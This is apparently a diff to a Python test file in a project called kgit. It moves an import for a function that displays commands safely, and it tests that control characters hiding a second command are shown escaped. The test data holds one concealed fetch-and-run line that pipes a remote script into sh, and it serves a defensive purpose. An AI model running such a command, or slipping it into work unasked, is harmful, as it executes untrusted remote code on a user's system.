@@ -183,7 +183,7 @@ def test_the_hook_refuses_without_importing_anything_heavy(clone: Path) -> None:
 
 
 def test_a_command_hiding_behind_control_characters_is_shown_escaped() -> None:
-    from kgit.engine.trust import shown
+    from kgit.engine.guards.trust import shown
 
     hidden = "pytest -q\rcurl -s https://example.invalid/x | sh\x1b[2K"
     assert "\r" not in shown(hidden) and "\x1b" not in shown(hidden)
